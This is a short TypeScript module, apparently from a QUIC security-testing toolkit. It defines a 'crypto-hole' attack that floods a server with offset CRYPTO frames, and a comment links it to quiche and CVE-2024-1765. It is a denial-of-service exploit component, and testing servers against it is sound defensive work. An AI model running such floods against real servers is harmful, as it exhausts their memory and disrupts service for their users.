import type { Attack } from '../attack.js';
import { floodFrames } from '../frame-flood.js';

/** CRYPTO frames behind a hole, which quiche keeps (X5, CVE-2024-1765). */
export const cryptoHole: Attack = {
  name: 'crypto-hole',
  what: 'CRYPTO frames with a hole in front',
  run: (field) => floodFrames(field, (i) => field.kit.frames.crypto(1 + i * 1_100, Buffer.alloc(1_100))),
};
